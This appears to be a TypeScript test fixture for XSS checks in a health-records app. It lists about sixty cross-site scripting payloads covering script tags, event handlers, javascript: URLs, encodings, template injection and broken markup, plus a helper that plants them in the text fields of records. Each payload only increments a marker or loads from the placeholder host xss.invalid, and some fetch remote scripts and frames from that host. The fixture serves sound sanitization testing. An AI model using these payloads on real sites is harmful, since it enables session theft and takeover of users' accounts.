/** Texts that mean to be a script, each of which calls home when it runs. */

/** What a script of a payload says, so that a page in which one ran can be told. */
export const CALLS = 'window.__ran=(window.__ran||0)+1';
/** A host that nobody has: asked for only if a payload got to ask. */
export const HOST = 'xss.invalid';

const c = CALLS;
/** Sixty ways into a page: elements, attributes, addresses, encodings, templates, broken markup. */
export const PAYLOADS: readonly string[] = [
  `<script>${c}</script>`,
  `<SCRIPT>${c}</SCRIPT>`,
  `<scr<script>ipt>${c}</scr</script>ipt>`,
  `<script src="https://${HOST}/a.js"></script>`,
  `<script src=//${HOST}/b.js></script>`,
  `<script type="module">${c}</script>`,
  `"><script>${c}</script>`,
  `'><script>${c}</script>`,
  `</title><script>${c}</script>`,
  `</textarea><script>${c}</script>`,
  `</script><script>${c}</script>`,
  `--><script>${c}</script>`,
  `]]><script>${c}</script>`,
  `<img src=x onerror="${c}">`,
  `<img src=x onerror=${c}>`,
  `<img/src=x/onerror=${c}>`,
  `<IMG SRC=x OnErRoR="${c}">`,
  `"><img src=x onerror="${c}">`,
  `' onerror='${c}' src='x`,
  `" autofocus onfocus="${c}" x="`,
  `<img src="https://${HOST}/a.png">`,
  `<svg onload="${c}">`,
  `<svg/onload=${c}>`,
  `<svg><script>${c}</script></svg>`,
  `<svg><animate onbegin="${c}" attributeName=x dur=1s>`,
  `<svg><a href="javascript:${c}"><text>x</text></a></svg>`,
  `<math><mi xlink:href="javascript:${c}">x</mi></math>`,
  `<iframe src="javascript:${c}"></iframe>`,
  `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`,
  `<iframe src="https://${HOST}/"></iframe>`,
  `<object data="javascript:${c}"></object>`,
  `<object data="https://${HOST}/x.swf"></object>`,
  `<embed src="https://${HOST}/x">`,
  `<link rel="stylesheet" href="https://${HOST}/a.css">`,
  `<link rel="prefetch" href="https://${HOST}/p">`,
  `<style>@import "https://${HOST}/b.css";</style>`,
  `<div style="background:url(https://${HOST}/c.png)">x</div>`,
  `<base href="https://${HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${HOST}/">`,
  `<form action="https://${HOST}/"><button autofocus>x</button></form>`,
  `<body onload="${c}">`,
  `<input autofocus onfocus="${c}">`,
  `<details open ontoggle="${c}">x</details>`,
  `<video><source onerror="${c}"></video>`,
  `<audio src=x onerror="${c}"></audio>`,
  `<marquee onstart="${c}">x</marquee>`,
  `<a href="javascript:${c}">x</a>`,
  `<a href="JaVaScRiPt:${c}">x</a>`,
  `<a href="java&#x09;script:${c}">x</a>`,
  `javascript:${c}`,
  `data:text/html,<script>${c}</script>`,
  `&lt;script&gt;${c}&lt;/script&gt;`,
  `&#60;script&#62;${c}&#60;/script&#62;`,
  `\\u003cscript\\u003e${c}\\u003c/script\\u003e`,
  `%3Cscript%3E${c}%3C/script%3E`,
  `+ADw-script+AD4-${c}+ADw-/script+AD4-`,
  `{{constructor.constructor('${c}')()}}`,
  `\${${c}}`,
  `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
  `<xss style="animation-name:x" onanimationstart="${c}"></xss>`,
  `<template><script>${c}</script></template><img src=x onerror=${c}>`,
];

/** Every string of a resource that a person may have written, with a payload in its place. */
export function poisoned(resource: unknown, next: () => string, key = ''): unknown {
  if (Array.isArray(resource)) return resource.map((one) => poisoned(one, next, key));
  if (typeof resource === 'object' && resource !== null)
    return Object.fromEntries(Object.entries(resource).map(([name, value]) => [name, poisoned(value, next, name)]));
  // What is attached is shown as readable text: all payloads at once in its place.
  if (key === 'data' && typeof resource === 'string') return Buffer.from(PAYLOADS.join('\n')).toString('base64');
  return typeof resource === 'string' && WRITTEN.has(key) ? next() : resource;
}

/** Members that hold words; codes, ids, dates and addresses have a form that is checked. */
const WRITTEN = new Set([
  'text',
  'display',
  'name',
  'family',
  'given',
  'prefix',
  'suffix',
  'title',
  'description',
  'note',
  'line',
  'city',
  'district',
  'valueString',
  'patientInstruction',
  'conclusion',
  'comment',
  'value_text',
  'unit',
  'lotNumber',
]);

/** Narrative that is well-formed and would run, were it taken and shown as it is. */
export const NARRATIVES: readonly string[] = [
  `<script>${c}</script>`,
  `<img src="x" onerror="${c}"/>`,
  `<a href="javascript:${c}">x</a>`,
  `<p onclick="${c}">x</p>`,
  `<p style="background:url(https://${HOST}/n.png)">x</p>`,
  `<img src="https://${HOST}/n.png" alt="x"/>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${c}"/>`,
  `<iframe src="https://${HOST}/"/>`,
];
